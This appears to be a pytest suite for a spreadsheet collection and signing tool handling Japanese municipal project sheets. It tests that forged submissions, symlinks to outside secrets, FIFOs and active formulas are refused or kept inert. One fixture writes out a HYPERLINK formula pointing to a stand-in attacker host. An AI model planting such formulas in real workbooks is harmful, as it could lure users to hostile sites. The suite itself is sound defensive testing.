    codes = tuple(w.strip("[]") for w in wanted if _IS_CODE.fullmatch(w.strip("[]")))
    says = tuple(w for w in wanted if not _IS_CODE.fullmatch(w.strip("[]")))

    def build(kit: Kit) -> list[str]:
        world = World(base_for(kit), kit.root)
        kit.world = world
        args = [str(a) for a in setup(world)]
        world.notes["argv"] = args
        return args

    def check_world(kit: Kit, outcome: Outcome) -> None:
        world = kit.world
        for path, data in world.protected.items():
            assert path.exists() or path.is_symlink(), f"{path} is gone"
            assert path.read_bytes() == data, f"{path} was changed"
        if then is not None:
            book = read_book(world.master) if world.notes["argv"][0] == "collect" else {}
            then(world, BookView(outcome.rc, outcome.out, outcome.err, book))

    made = Case(id, build, rc, codes, says, absent=absent, then=check_world, process=isolated, env=env)
    CASES.append(made)
    _PART[id] = part
    return made


_IS_CODE = re.compile(r"[A-Z]\d{3}")

_ROWS = [
    # 3. no output ever overwrites an input
    _row("collect-out-inside-the-inbox", 3, _out_in_inbox, 2, ("[O902]",)),
    _row("collect-out-is-a-submission", 3, _out_is_a_submission, 2, ("[O902]",)),
    _row("collect-json-on-a-submission", 3, _json_on_a_submission, 2, ("[O902]",)),
    _row("collect-json-on-expected", 3, _json_on_expected, 2, ("[O901]",)),
    _row("collect-json-on-a-hard-link-of-expected", 3, _json_on_expected_hardlink, 2, ("[O901]",)),
    _row("collect-csv-inside-the-inbox", 3, _csv_in_inbox, 2, ("[O902]",)),
    _row("collect-csv-would-replace-expected", 3, _csv_over_expected, 2, ("[O906]",)),
    _row("collect-json-is-the-master-book", 3, _json_is_the_master, 2, ("[O905]",)),
    _row("collect-store-inside-the-inbox", 3, _store_in_inbox, 2, ("[O904]",)),
    _row("collect-inbox-is-the-store", 3, _inbox_in_store, 2, ("[O904]",)),
    _row("collect-out-inside-another-store", 3, _out_in_another_store, 2, ("[O903]",)),
    _row("collect-out-through-a-symlink-into-the-inbox", 3, _out_through_a_symlink_into_the_inbox, 2, ("[O902]",)),
    _row("generate-into-the-inbox-keeps-returned-files", 3, _generate_into_the_inbox, 1, ("[G610]",),
         then=_generate_twice_is_refused_per_file),
    _row("generate-overwrite-when-asked", 3, _generate_overwrite, 0, absent=("G610",),
         then=_generate_overwrite_replaced),
    # refused already as a file given where a folder belongs (cli), before the guard looks
    _row("generate-out-is-the-records-file", 3, _generate_onto_the_records_file, 2, ("既にあるファイル",)),
    _row("generate-out-inside-a-store", 3, _generate_into_a_store, 2, ("[O903]",)),
    _row("generate-overwrite-never-writes-its-input", 3, _generate_over_its_master_book_source, 1, ("[G611]",)),
    _row("import-text-out-is-the-input", 3, _import_text_onto_itself, 2, ("[O901]",)),
    _row("import-text-out-is-a-hard-link-of-the-input", 3, _import_text_onto_a_hard_link, 2, ("[O901]",)),
    _row("annotate-onto-the-input", 3, _annotate_onto_the_input, 2, ("[O901]",)),
    _row("annotate-onto-a-symlink-of-the-input", 3, _annotate_onto_a_symlink_of_the_input, 2, ("[O901]",)),
    _row("rollforward-records-only-onto-the-source", 3, _records_only_onto_the_source, 2, ("[O901]",)),
    _row("rollforward-records-only-onto-the-rates", 3, _records_only_onto_the_rates, 2, ("[O901]",)),
    _row("rollforward-over-last-years-templates", 3, _rollforward_over_last_years_templates, 1, ("[G610]",),
         then=_nothing_new_written),
    # 4. forgery is detected
    _row("forged-as-another-project-replaces-nothing", 4, _forged_replaces_nothing, 1, ("T231", "受付不可"),
         then=_genuine_088_stays_current),
    _row("forged-as-a-project-that-sent-nothing", 4, _forged_only_one_for_its_project, 1, ("T231", "受付不可"),
         then=_project_shows_rejected),
    _row("locked-history-rewritten-with-its-digest", 4, _history_rewritten, 1, ("T231",), absent=("T215",)),
    _row("signature-stripped", 4, _signature_stripped, 1, ("T234",), then=_genuine_088_stays_current),
    _row("meta-removed", 4, _meta_removed, 1, ("T201", "受付不可"), then=_genuine_090_stays_current),
    _row("signed-with-another-key", 4, _another_key, 1, ("T232",)),
    _row("signed-but-never-issued", 4, _never_issued, 1, ("T235",)),
    _row("issued-for-another-project", 4, _issued_for_another_project, 1, ("T236",)),
    _row("next-years-file-never-replaces-this-years", 4, _next_year_file, 1, ("C810",), then=_r4_088_current),
    _row("next-years-file-without-expected-records", 4, _next_year_file_without_expected, 1, ("C810",),
         then=_r4_088_current),
    _row("pre-signing-template-read-with-a-warning", 4, _pre_signing_template, 0, ("T233",),
         then=_pre_signing_is_read),
    _row("department-check-without-the-key", 4, _department_check_without_key, 0, ("T237",),
         env=((signing.KEY_ENV, "/nonexistent/sheettool-office-key"),)),
    _row("named-key-missing", 4, _named_key_missing, 2, ("鍵ファイルが見つかりません",)),
    _row("key-file-is-not-a-key", 4, _key_not_a_key, 2, ("鍵ファイルではありません",)),
    _row("project-number-changed-on-the-sheet", 4, _project_number_changed_on_the_sheet, 1, ("T209", "受付不可"),
         then=_genuine_087_and_088_stay),
    # 5. active content stays inert
    _row("webservice-in-a-text-input", 5, _webservice_in_text, 1, ("V310",), then=_webservice_is_text_everywhere),
    _row("hyperlink-in-a-text-input", 5, _hyperlink_in_text, 1, ("V310",)),
    _row("external-reference-in-a-number-input", 5, _external_reference_in_number, 1, ("V310",),
         then=_external_value_not_taken),
    _row("annotated-copy-of-a-webservice-is-inert", 5, _annotate_webservice, 1, ("V310",), then=_annotated_is_inert),
    _row("annotated-copy-keeps-extensions", 5, _annotate_keeps_extensions, 1, ("V302",), then=_extension_kept),
    _row("annotated-copy-of-a-changed-formula-is-inert", 5, _changed_formula_cell, 1, ("T203",),
         then=_changed_formula_inert),
    _row("annotated-copy-annotated-again", 5, _annotate_an_annotated_copy, 1, ("V302", "T211"),
         then=_comments_extended),
    # 6. every file in the inbox is accounted for
    _row("inbox-xls", 6, _inbox_with(badfiles.write_xls, "088_情報通信ネットワーク運営業務.xls"), 1, ("F101",),
         then=_project_088_unreadable),
    _row("inbox-ods", 6, _inbox_with(badfiles.write_ods, "088_情報通信ネットワーク運営業務.ods"), 1, ("F106",),
         then=_project_088_unreadable),
    _row("inbox-csv", 6, _inbox_with(badfiles.write_csv_renamed, "088_情報通信ネットワーク運営業務.csv"), 1, ("F103",)),
    _row("inbox-pdf", 6, _inbox_with(badfiles.write_pdf_renamed, "088_情報通信ネットワーク運営業務.pdf"), 1, ("F104",)),
    _row("inbox-zip", 6, _inbox_with(badfiles.write_docx_renamed, "088_提出一式.zip"), 1, ("F108",)),
    _row("inbox-fifo-never-hangs", 6, _fifo, 1, ("C812",), isolated=True),
    _row("inbox-symlink-to-a-file-outside", 6, _symlink_to_a_secret, 1, ("C813",), then=_secret_not_archived),
    _row("inbox-symlinked-folder", 6, _symlinked_folder, 1, ("C813", "未提出")),
    _row("inbox-office-lock-file", 6, _lock_file, 0, ("C811", "除外")),
    _row("inbox-leftover-temp-files", 6, _leftover_temp, 0, ("C814",), then=_leftovers_not_submissions),
    _row("inbox-os-files", 6, _os_files, 0, ("C815",)),
    # 7. which file is newer is robust
    _row("copied-old-file-with-a-fresh-mtime", 7, _copied_old_file_with_fresh_mtime, 0, then=_saved_time_decides),
    _row("no-save-time-falls-back-to-mtime", 7, _no_save_time, 0, then=_mtime_decides),
    _row("save-time-in-the-future-is-not-believed", 7, _save_time_in_the_future, 0, then=_future_is_not_believed),
    _row("version-2-store-migrated-by-save-time", 7, _version_2_store, 0, then=_migrated_nothing_lost),
    # 8. rollforward loses no project
    _row("rollforward-carries-a-missing-project", 8, _rollforward_missing, 0, ("未提出",), then=_missing_is_carried),
    _row("rollforward-carries-an-unreadable-project", 8, _rollforward_unreadable, 0, ("読取不可",),
         then=_unreadable_is_carried),
    _row("rollforward-without-any-output", 8, _rollforward_without_output, 2, ("出力先がありません",),
         then=_nothing_written),
    _row("rollforward-templates-for-missing-projects", 8, _rollforward_templates_for_missing, 0,
         then=_templates_for_missing),
]


# --------------------------------------------------------------------------- the runner


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("hostile")
    src = folder / "records.json"
    src.write_text(json.dumps(seed_records(), ensure_ascii=False), encoding="utf-8")
    rc, out, err = run_cli("generate", src, "--out", folder / "t")
    assert rc == 0, out + err
    return {r["project_no"]: output_path(folder / "t", r) for r in seed_records()}


@pytest.fixture
def kit(tmp_path: Path, generated: dict[str, Path], monkeypatch: pytest.MonkeyPatch) -> Iterator[Kit]:
    with contextlib.ExitStack() as stack:
        made = Kit(tmp_path, generated, monkeypatch, stack)
        made.inp.mkdir()
        made.out.mkdir()
        yield made


def _codes(kit: Kit, out: str, err: str) -> set[str]:
    found = set(_CODE.findall(out + err))
    with contextlib.suppress(ValueError):
        data = jsontext.loads(out)
        if isinstance(data, dict):
            found |= {f["code"] for f in data.get("findings") or []}
    master = kit.out / "master.xlsx"  # a collect's master book: 指摘一覧 lists what the ledger cannot
    if master.is_file():
        found |= {str(r.get("コード")) for r in read_book(master).get("指摘一覧", [])}
    for db in kit.root.rglob(DB_NAME):
        with contextlib.suppress(sqlite3.Error), contextlib.closing(_read_only(db)) as conn:
            for (text,) in conn.execute("SELECT findings_json FROM submissions"):
                found |= {f["code"] for f in json.loads(text)}
    return found


def _read_only(db: Path) -> sqlite3.Connection:
    return sqlite3.connect(f"{db.as_uri()}?mode=ro", uri=True)


def _run(kit: Kit, argv: list[str], case: Case) -> Outcome:
    if not case.process:
        with pytest.MonkeyPatch.context() as mp:
            for key, value in case.env:
                mp.setenv(key, value)
            rc, out, err = run_cli(*argv)
    else:
        env = {**os.environ, **dict(case.env), "PYTHONIOENCODING": "utf-8"}
        done = subprocess.run([sys.executable, "-m", "sheettool.cli", *argv], capture_output=True,
                              env=env, timeout=300, check=False)
        rc, out, err = done.returncode, done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace")
    return Outcome(rc, out, err, _codes(kit, out, err))


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_case(case: Case, kit: Kit) -> None:
    argv = case.build(kit)
    inputs = tree(kit.inp)
    leftovers = _temp_files(kit.root)  # what a case put there on purpose (an interrupted run's leftovers)
    outcome = _run(kit, argv, case)
    assert outcome.rc == case.exit, f"exit {outcome.rc}, expected {case.exit}:\n{outcome.text}"
    assert "Traceback" not in outcome.err and "予期しない内部エラー" not in outcome.text, outcome.err
    assert "\x1b" not in outcome.text and "\x07" not in outcome.text  # nothing a terminal would run
    if argv[0] == "check" and "--json" in argv:
        jsontext.loads(outcome.out)  # strict JSON: no NaN, no Infinity
    for code in case.codes:
        assert code in outcome.codes, f"{code} not reported: {sorted(outcome.codes)}\n{outcome.text}"
    for code in case.absent:
        assert code not in outcome.codes, outcome.text
    for fragment in case.says:
        assert fragment in outcome.text, outcome.text
    assert tree(kit.inp) == inputs  # every input as it was
    assert _temp_files(kit.root) <= leftovers  # no temporary file left by the command
    if case.then is not None:
        case.then(kit, outcome)


def test_the_catalogue_is_large_and_unique() -> None:
    ids = [c.id for c in CASES]
    assert len(ids) >= 60 and len(set(ids)) == len(ids)
    assert set(_PART.values()) == {3, 4, 5, 6, 7, 8}  # every class of parts 3–8 has its rows


# --------------------------------------------------------------------------- memory, measured


# VmHWM, not ru_maxrss: that one keeps the peak of the parent it was forked from
_PEAK = """
import sys
from pathlib import Path
from sheettool.check import check_file
r = check_file(sys.argv[1])
hwm = next(l for l in Path("/proc/self/status").read_text().splitlines() if l.startswith("VmHWM:"))
print(r.status, hwm.split()[1])
"""


def _peak_kib(path: Path) -> tuple[str, int]:
    done = subprocess.run([sys.executable, "-c", _PEAK, str(path)], capture_output=True, text=True,
                          check=True, timeout=300)
    status, kib = done.stdout.split()
    return status, int(kib)


def test_a_return_at_the_limits_reads_in_bounded_memory(generated: dict[str, Path], tmp_path: Path) -> None:
    """The worst sheet the limits allow (8 MiB of formatted empty cells) is read, incrementally.

    Measured: 129 MB peak RSS (a parsed tree of it alone would need ~19x its 8 MiB). The 46 MiB
    sheet the old limits allowed peaked at 1.26 GB; it is now refused before any parsing.
    """
    path = tmp_path / "limit.xlsx"
    data = generated["088"].read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = zf.getinfo(SHEET_PART).file_size  # the form and its 入力チェック panel
    path.write_bytes(big_return(data, 8 * MIB - sheet - 32 * 1024))
    status, kib = _peak_kib(path)
    assert status in ("受理", "要修正")
    assert kib * 1024 < 300 * MIB
    refused = tmp_path / "big.xlsx"
    refused.write_bytes(big_return(generated["088"].read_bytes(), 46 * MIB))
    status, kib = _peak_kib(refused)
    assert status == "読取不可" and kib * 1024 < 100 * MIB


def test_collect_workers_have_a_memory_budget(generated: dict[str, Path], tmp_path: Path) -> None:
    """A file that needs more than the workers' budget is F123 for that file; the rest are read."""
    inbox = tmp_path / "in"
    inbox.mkdir()
    for i in range(16):
        (inbox / f"{i:02d}.xlsx").write_bytes(generated[["087", "088", "089", "090", "091", "098"][i % 6]].read_bytes())
    (inbox / "zz_big.xlsx").write_bytes(big_return(generated["088"].read_bytes(), 6 * MIB))
    done = subprocess.run([sys.executable, "-m", "sheettool.cli", "collect", str(inbox), "--out",
                           str(tmp_path / "m.xlsx"), "--jobs", "2"], capture_output=True, text=True,
                          env={**os.environ, "SHEETTOOL_WORKER_MEMORY_MB": "48"}, timeout=300, check=False)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    with contextlib.closing(sqlite3.connect(tmp_path / "m.sheettool" / DB_NAME)) as conn:
        rows = dict(conn.execute("SELECT first_path, findings_json FROM submissions").fetchall())
    assert len(rows) == 7  # six templates (copies share their content) and the big one
    assert [f["code"] for f in json.loads(rows["zz_big.xlsx"])] == ["F123"]
    assert all("F123" not in text for name, text in rows.items() if name != "zz_big.xlsx")


# --------------------------------------------------------------------------- typed in LibreOffice


def test_text_typed_in_libreoffice_reads_back_as_typed(calc, generated: dict[str, Path], tmp_path: Path) -> None:
    """LibreOffice (like Excel) stores a typed "_x0041_" as "_x005F_x0041_"; it is read, and the
    master book writes it, exactly once. A typed TRUE in a money cell is a warning, never a
    silent 1; a typed 1E+400 (stored by LibreOffice as 1.797…E+308) is out of bounds, as stored."""
    typed_in = {"f_summary": "_x0041_ と _x005F_", "f_costs_2022_other": "TRUE",
                "f_costs_2022_budget": "1E+400", "f_indicators_1_name": "_x0041_ の指標"}
    with calc.open(generated["088"]) as doc:
        doc.type(typed_in)
        doc.recalc()
        saved = doc.save(tmp_path / "in" / "088.xlsx")
    with zipfile.ZipFile(saved) as zf:
        assert b"_x005F_x0041_" in zf.read("xl/sharedStrings.xml")
    result = check_file(saved)
    assert result.record["summary"] == "_x0041_ と _x005F_"
    assert result.record["indicators"][0]["name"] == "_x0041_ の指標"
    cost = next(c for c in result.record["costs"] if c["year"] == 2022)
    assert cost["other"] == 1 and cost["budget"] is None
    found = {f.code: f for f in result.findings}
    assert "論理値「TRUE」" in found["V301"].message and found["V301"].cell == cell("costs.2022.other")
    assert "1.7976931348623157e+308" in found["S401"].message
    assert "T214" not in found
    rc, out, err = run_cli("collect", tmp_path / "in", "--out", tmp_path / "m.xlsx")
    assert rc == 1, out + err
    book = Book(package_from_bytes("m.xlsx", (tmp_path / "m.xlsx").read_bytes()))
    shown = {book.value(c) for s in book.sheets if s.name == "指標" for c in book.read_sheet(s).cells.values()}
    assert "_x0041_ の指標" in shown and not any("x005F" in str(v) for v in shown)


def test_the_dash_survives_libreoffice(calc, tmp_path: Path) -> None:
    """A record whose 市の関与・優先度 are null because the law sets the project: generated with "-",
    saved by LibreOffice untouched, read back as the same record without 未入力."""
    record = seed_record("088")
    record["category"] = "法定受託事務"
    record["evaluation"]["city_involvement"] = record["evaluation"]["priority"] = None
    src = tmp_path / "records.json"
    src.write_text(json.dumps([record], ensure_ascii=False), encoding="utf-8")
    rc, out, err = run_cli("generate", src, "--out", tmp_path / "t")
    assert rc == 0, out + err
    with calc.open(output_path(tmp_path / "t", record)) as doc:
        shown = doc.read(["f_evaluation_city_involvement", "f_evaluation_priority"])
        assert [c["string"] for c in shown.values()] == ["-", "-"]
        doc.recalc()
        saved = doc.save(tmp_path / "back.xlsx")
    result = check_file(saved)
    assert result.ok, [(f.code, f.message) for f in result.findings if f.is_error]
    assert result.record["evaluation"] == record["evaluation"]


# --------------------------------------------------------------------------- the annotated copy in LibreOffice


@pytest.fixture(scope="module")
def base(generated: dict[str, Path]) -> Base:
    return _base_of(generated["088"].parents[2])



VALIDATOR = Path(__file__).resolve().parents[2] / "shared" / "tools" / "ooxml" / "validate.sh"
HYPERLINK = '=HYPERLINK("http://attacker.example/","詳細")'


@pytest.fixture(scope="module")
def libreoffice_return(calc, base: Base, tmp_path_factory) -> Path:
    """088 as a department returns it from LibreOffice: a HYPERLINK typed into 成果, text in a
    number cell, everything else as issued (LibreOffice's own styles, cached values, extensions)."""
    out = tmp_path_factory.mktemp("lo") / "088_returned.xlsx"
    with calc.open(base.templates["088"]) as doc:
        doc.type({"f_results_achievements": HYPERLINK}, mode="formula")
        doc.type({"f_costs_2023_budget": "たくさん"}, mode="string")
        doc.recalc()
        doc.save(out)
    return out


def test_annotated_libreoffice_return_opens_in_libreoffice_marked_and_inert(calc, libreoffice_return: Path,
                                                                             tmp_path: Path) -> None:
    from sheettool.check.annotate import annotate

    result = check_file(libreoffice_return)
    errors = {(f.code, f.cell) for f in result.findings if f.is_error}
    assert ("V310", cell_at("results.achievements")) in errors and ("V302", cell_at("costs.2023.budget")) in errors
    out = tmp_path / "annotated.xlsx"
    annotate(libreoffice_return, result, out)
    before = Parts(libreoffice_return.read_bytes())
    copied = Parts(out.read_bytes())
    assert set(before.parts) <= set(copied.parts) | {"xl/calcChain.xml"}
    with calc.open(out) as doc:
        info = doc.info()
        assert [s["name"] for s in info["sheets"]][:2] == ["指摘一覧", SHEET]
        inert = doc.cell(f"{SHEET}!{cell_at('results.achievements')}")
        assert inert["type"] == "text" and inert["string"] == HYPERLINK  # a string, never a link or a formula
        looks = doc.looks(f"{SHEET}!{cell_at('costs.2023.budget')}", f"{SHEET}!{cell_at('results.achievements')}",
                          f"{SHEET}!{cell_at('results.issues_operations')}")
        budget = looks[f"{SHEET}!{cell_at('costs.2023.budget')}"]
        assert budget["back_color"] == 0xFFC7CE
        v302 = next(f for f in result.findings if f.code == "V302")
        assert v302.message in budget["comment"].replace("\n", "") or v302.message[:40] in budget["comment"]
        assert looks[f"{SHEET}!{cell_at('results.issues_operations')}"]["comment"] is None
        # the template's own formulas are still formulas, with the values LibreOffice saved
        settlement = doc.cell(f"{SHEET}!{cell_at('costs.2021.personnel_cost')}")
        assert settlement["type"] == "formula" and settlement["value"] == LAYOUT.get(
            check_file(libreoffice_return).record, "costs.2021.personnel_cost")
        listing = doc.read("指摘一覧!A1:F3")["指摘一覧!A1:F3"]["cells"]
        assert [c["string"] for c in listing[0]] == ["重要度", "コード", "シート", "セル", "項目", "内容"]


@pytest.mark.skipif(not VALIDATOR.is_file(), reason="the OOXML validator is not checked out next to this repository")
def test_annotated_copy_master_book_and_template_pass_the_ooxml_validator(libreoffice_return: Path, base: Base,
                                                                           tmp_path: Path) -> None:
    from sheettool.check.annotate import annotate

    annotated = tmp_path / "annotated.xlsx"
    annotate(libreoffice_return, check_file(libreoffice_return), annotated)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(libreoffice_return, inbox / libreoffice_return.name)
    for no in NOS[1:]:
        shutil.copy(base.templates[no], inbox / base.templates[no].name)
    master = tmp_path / "master.xlsx"
    assert _cli(["collect", inbox, "--out", master, "--expected", base.records])[0] == 1
    again_src = tmp_path / "annotated_returned.xlsx"
    parts = Parts(annotated.read_bytes())
    parts.string(cell_at("costs.2024.budget"), "もっと")
    again_src.write_bytes(to_bytes(parts))
    again = tmp_path / "annotated_again.xlsx"
    annotate(again_src, check_file(again_src), again)
    files = [annotated, again, master, base.templates["088"], libreoffice_return]
    proc = subprocess.run(["bash", str(VALIDATOR), *map(str, files)], capture_output=True, text=True, timeout=600)
    summaries = [line for line in proc.stdout.splitlines() if "SUMMARY" in line]
    assert proc.returncode == 0, proc.stdout[-4000:]
    assert len(summaries) == 2 * len(files) and all(" 0 error(s)" in line for line in summaries), summaries


def test_the_key_is_made_on_first_use_private_and_every_issue_is_registered(tmp_path: Path,
                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    key_path = tmp_path / "office" / "key"
    monkeypatch.setenv(signing.KEY_ENV, str(key_path))
    records = tmp_path / "records.json"
    records.write_text(json.dumps(seed_records()[:2], ensure_ascii=False), encoding="utf-8")
    rc, out, err = _cli(["generate", records, "--out", tmp_path / "t"])
    assert rc == 0 and "署名用の鍵を作成しました" in err
    assert key_path.stat().st_mode & 0o777 == 0o600 and key_path.parent.stat().st_mode & 0o777 == 0o700
    register = key_path.with_name("key.issued.jsonl")
    assert register.stat().st_mode & 0o777 == 0o600
    entries = [json.loads(line) for line in register.read_text(encoding="utf-8").splitlines()]
    key = signing.load_key(key_path)
    for entry, record in zip(entries, seed_records()[:2], strict=True):
        path = output_path(tmp_path / "t", record)
        meta = meta_of(path)
        assert entry["signature"] == meta["signature"] == key.sign(meta) and entry["key_id"] == key.id
        assert (entry["project_no"], entry["fiscal_year"], entry["file"]) == (record["project_no"], 2022,
                                                                              str(path.resolve()))
    rc, _, err = _cli(["generate", records, "--out", tmp_path / "t2"])
    assert rc == 0 and "作成しました: " not in err  # the same key the second time
    assert len(register.read_text(encoding="utf-8").splitlines()) == 4
